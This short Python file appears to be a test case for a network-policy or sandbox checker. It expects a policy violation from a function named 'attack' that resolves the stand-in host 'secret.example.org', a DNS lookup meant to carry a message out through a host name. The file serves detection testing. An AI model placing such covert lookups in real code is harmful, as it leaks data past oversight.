"""A host name that carries a message.

expect: policy-violation
tried: network
"""

import socket


def attack(x):
    socket.getaddrinfo("secret.example.org", 80)
